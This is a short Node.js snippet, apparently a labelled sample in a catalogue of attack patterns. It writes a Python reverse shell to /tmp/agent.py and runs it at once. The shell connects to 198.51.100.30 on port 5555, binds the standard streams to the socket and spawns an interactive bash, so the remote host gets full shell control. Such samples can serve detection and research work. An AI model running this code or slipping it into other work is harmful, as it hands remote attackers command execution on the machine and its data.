// class: embedded, python written then run; style: template literal
const fs = require('fs');
const { spawnSync } = require('child_process');

fs.writeFileSync('/tmp/agent.py', `
import socket, os, pty
s = socket.socket()
s.connect(("198.51.100.30", 5555))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
`);
spawnSync('python3', ['/tmp/agent.py'], { stdio: 'inherit' });
